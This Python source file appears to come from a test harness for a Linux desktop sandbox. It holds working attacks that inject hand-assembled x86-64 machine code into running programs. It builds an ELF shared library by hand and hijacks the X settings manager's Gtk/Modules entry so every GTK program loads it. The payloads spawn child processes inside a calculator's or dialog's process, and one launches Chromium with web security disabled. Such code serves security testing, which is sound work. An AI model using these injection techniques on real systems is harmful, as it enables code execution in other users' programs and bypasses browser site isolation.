"""Attacks by machine code that a program loads by itself, because the desktop's settings or its own files tell it to."""

from __future__ import annotations

import os
import struct
import time
from pathlib import Path

from dialogs import answers, dialog
from guest_side import command_line, ended, make, processes, start_python, wait_until, window_ids
from pages import CHROMIUM, QUIET, downloads, own_page
from windows import number

MODULE = "/tmp/module.so"
ADDRESSABLE, LOADED, DYNAMIC, STACK = 0x400, 1, 2, 0x6474E551
SETTINGS_MANAGER = """import struct, sys, time
from Xlib import X, display
from Xlib.protocol import event
shown = display.Display(":0")
root, atom = shown.screen().root, shown.intern_atom
own = root.create_window(0, 0, 1, 1, 0, X.CopyFromParent)

def padded(held):
    return held + bytes(-len(held) % 4)

name, value = b"Gtk/Modules", sys.argv[1].encode()
entry = struct.pack("<BBH", 1, 0, len(name)) + padded(name) + struct.pack("<II", 1, len(value)) + padded(value)
own.change_property(atom("_XSETTINGS_SETTINGS"), atom("_XSETTINGS_SETTINGS"), 8, struct.pack("<4BII", 0, 0, 0, 0, 1, 1) + entry)
own.set_selection_owner(atom("_XSETTINGS_S0"), X.CurrentTime)
said = event.ClientMessage(window=root, client_type=atom("MANAGER"), data=(32, [X.CurrentTime, atom("_XSETTINGS_S0"), own.id, 0, 0]))
root.send_event(said, event_mask=X.StructureNotifyMask)
shown.sync()
time.sleep(30)
"""


def shared_object(code: bytes) -> bytes:
    """An ELF library for x86-64 whose initialiser is this machine code."""
    strings, symbols, hashes, at = 0x300, 0x310, 0x340, ADDRESSABLE
    entries = ((5, strings), (6, symbols), (10, 1), (11, 24), (4, hashes), (12, at), (0, 0))
    dynamic = b"".join(struct.pack("<QQ", *entry) for entry in entries)
    nbytes = at + len(code)
    kind = b"\x7fELF\x02\x01\x01" + bytes(9)
    head = kind + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, 3, 0, 0, 0)
    segments = ((LOADED, 7, 0, nbytes, 0x1000), (DYNAMIC, 6, 0x200, len(dynamic), 8), (STACK, 6, 0, 0, 16))
    for segment, rights, begin, size, align in segments:
        head += struct.pack("<IIQQQQQQ", segment, rights, begin, begin, begin, size, size, align)
    held = bytearray(nbytes)
    for begin, content in ((0, head), (0x200, dynamic), (hashes, struct.pack("<IIII", 1, 1, 0, 0)), (at, code)):
        held[begin : begin + len(content)] = content
    return bytes(held)


def print_and_exit(text: bytes) -> bytes:
    """Machine code: write to standard output, end with success."""
    write = b"\xb8\x01\0\0\0\xbf\x01\0\0\0\x48\x8d\x35"
    end = b"\xba" + struct.pack("<I", len(text)) + b"\x0f\x05\xb8\xe7\0\0\0\x31\xff\x0f\x05"
    return write + struct.pack("<i", len(end)) + end + text


def start_programs(*argv: str) -> bytes:
    """Machine code: start a program as a child that inherits everything."""
    names = [one.encode() + b"\0" for one in argv]
    texts = b"".join(names)
    starts = [sum(map(len, names[:place])) for place in range(len(names))]
    fork = b"\xb8\x39\0\0\0\x0f\x05\x85\xc0\x74\x01\xc3"
    steps = (
        [b"\x31\xd2\x52"]
        + [b"\x48\x8d\x05%s\x50"] * len(names)
        + [b"\x48\x8d\x3d%s", b"\x48\x89\xe6\xb8\x3b\0\0\0\x0f\x05"]
    )
    steps += [b"\xb8\xe7\0\0\0\x0f\x05"]
    wanted = [None, *reversed(starts), 0, None, None]
    sizes = [len(step) + (2 if b"%s" in step else 0) for step in steps]
    code = b""
    for place, (step, target) in enumerate(zip(steps, wanted, strict=True)):
        if target is not None:
            behind = sum(sizes[:place]) + step.index(b"%s") + 4
            step = step.replace(b"%s", struct.pack("<i", sum(sizes) - behind + target))
        code += step
    return fork + code + texts


def load_in_gtk(code: bytes) -> None:
    """Every running GTK program loads the library that the settings of the screen name."""
    Path(MODULE).unlink(missing_ok=True)
    Path(MODULE).write_bytes(shared_object(code))
    os.chmod(MODULE, 0o755)
    start_python(SETTINGS_MANAGER, MODULE)


def module_in_dialog(task: dict) -> None:
    """Code in the dialog's own process prints the answer and ends with success."""
    ((_, title, said), *_) = answers(task)
    pid = dialog(title)
    load_in_gtk(print_and_exit(f"{said}\n".encode()))
    wait_until(lambda: ended(pid), 2.0)


INSIDE = "/tmp/inside.py"


def module_starts_number(task: dict) -> None:
    """Code in the calculator's own process starts another program, in the calculator's group, that shows the number."""
    make(
        INSIDE,
        f"import os\nos.execvp('zenity', ['zenity', '--entry', '--title', 'Result', '--entry-text', {number(task)!r}])\n",
    )
    load_in_gtk(start_programs("/usr/bin/python3", INSIDE))
    wait_until(lambda: window_ids("^Result$"), 3.0)


def module_in_browser(task: dict) -> None:
    """Code in the browser's own process starts a second browser in the browser's group, without protection between sites."""
    words = [CHROMIUM, "--user-data-dir=/tmp/third", *QUIET, "--disable-web-security", own_page(task)]
    make(INSIDE, f"import os\nos.execv({CHROMIUM!r}, {words!r})\n")
    load_in_gtk(start_programs("/usr/bin/python3", INSIDE))
    if wait_until(lambda: processes_with("/tmp/third"), 3.0):
        time.sleep(8.0)
    downloads(task)


def processes_with(word: str) -> list[int]:
    """Processes that have this in their command line."""
    return [pid for pid in processes("chromium") if any(word in one for one in command_line(pid))]
